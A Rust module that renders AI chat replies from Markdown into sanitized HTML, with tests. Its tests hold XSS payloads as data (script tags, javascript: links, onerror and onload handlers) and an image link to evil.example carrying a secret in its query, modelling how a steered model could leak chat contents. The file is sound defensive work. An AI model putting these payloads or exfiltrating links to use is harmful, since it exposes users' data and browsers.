//! AI replies as HTML: their Markdown rendered once final (headings, lists, tables, code, links),
//! by comrak in its safe mode. A model's output is untrusted text: raw HTML in it is omitted
//! (never passed through), and links or images whose scheme could run code (`javascript:`,
//! `vbscript:`, `file:`, `data:` but images) get an empty address. Images become links: an
//! image would be fetched as soon as the reply is shown, so a model (or whoever steers it)
//! could send what the chat holds to any server in its address. People's messages are not
//! rendered: they stay text (the page makes their links clickable).

use comrak::nodes::NodeValue;
use comrak::{format_html, parse_document, Arena, Options};

/// `text` (Markdown) as safe HTML.
pub fn render(text: &str) -> String {
    let mut options = Options::default();
    options.extension.table = true;
    options.extension.strikethrough = true;
    options.extension.autolink = true;
    options.extension.tasklist = true;
    // A chat reply's line breaks are meant: kept, not folded into spaces.
    options.render.hardbreaks = true;
    // The default, said out loud: raw HTML is omitted, never passed through.
    options.render.r#unsafe = false;
    let arena = Arena::new();
    let root = parse_document(&arena, text, &options);
    for node in root.descendants() {
        let image = match &node.data().value {
            NodeValue::Image(link) => Some(link.clone()),
            _ => None,
        };
        if let Some(link) = image {
            // Its alt text (the image's children) becomes the link's words.
            node.data_mut().value = NodeValue::Link(link);
        }
    }
    let mut html = String::new();
    // Writing to a String cannot fail.
    let _ = format_html(root, &options, &mut html);
    html.truncate(html.trim_end().len());
    html
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn headings_lists_tables_and_code_are_rendered() {
        let html = render(
            "## Plan\n\n- one\n- two\n\n1. first\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n\
             ```rust\nfn main() {}\n```\n\nSome `code` and **bold** and ~~gone~~, \
             see https://example.com/x",
        );
        for part in [
            "<h2>Plan</h2>",
            "<li>one</li>",
            "<ol>",
            "<table>",
            "<td>2</td>",
            "<pre><code class=\"language-rust\">fn main() {}\n</code></pre>",
            "<code>code</code>",
            "<strong>bold</strong>",
            "<del>gone</del>",
            "<a href=\"https://example.com/x\">https://example.com/x</a>",
        ] {
            assert!(html.contains(part), "{part} not in {html}");
        }
    }

    #[test]
    fn hostile_markup_renders_as_nothing_that_runs() {
        let html = render(
            "<script>alert(1)</script>\n\n\
             [click](javascript:alert(1)) [v](vbscript:msgbox) ![i](javascript:alert(2))\n\n\
             <img src=x onerror=alert(3)> <a href=\"#\" onclick=\"alert(4)\">x</a>\n\n\
             <iframe src=\"https://evil.example\"></iframe>\n\n\
             <div><b>unclosed <i>markup\n\n[broken](</p>\n\n\
             `<script>in code</script>`\n\n<svg onload=alert(5)>",
        );
        let lower = html.to_ascii_lowercase();
        for bad in [
            "<script",
            "javascript:",
            "vbscript:",
            "onerror",
            "onclick",
            "onload",
            "<iframe",
            "<img src=\"x\"",
            "<svg",
            "<div>",
        ] {
            assert!(!lower.contains(bad), "{bad} in {html}");
        }
        // Inside code it is shown, as text.
        assert!(
            html.contains("&lt;script&gt;in code&lt;/script&gt;"),
            "{html}"
        );
        assert!(html.contains("raw HTML omitted"), "{html}");
    }

    #[test]
    fn an_image_is_a_link_to_it_never_fetched_by_itself() {
        let html = render("look: ![the chart](https://evil.example/x.png?d=secret)");
        assert!(!html.contains("<img"), "{html}");
        assert!(
            html.contains(r#"<a href="https://evil.example/x.png?d=secret">the chart</a>"#),
            "{html}"
        );
    }

    #[test]
    fn a_line_break_in_a_reply_is_kept() {
        assert!(render("one\ntwo").contains("one<br />\ntwo"));
    }
}
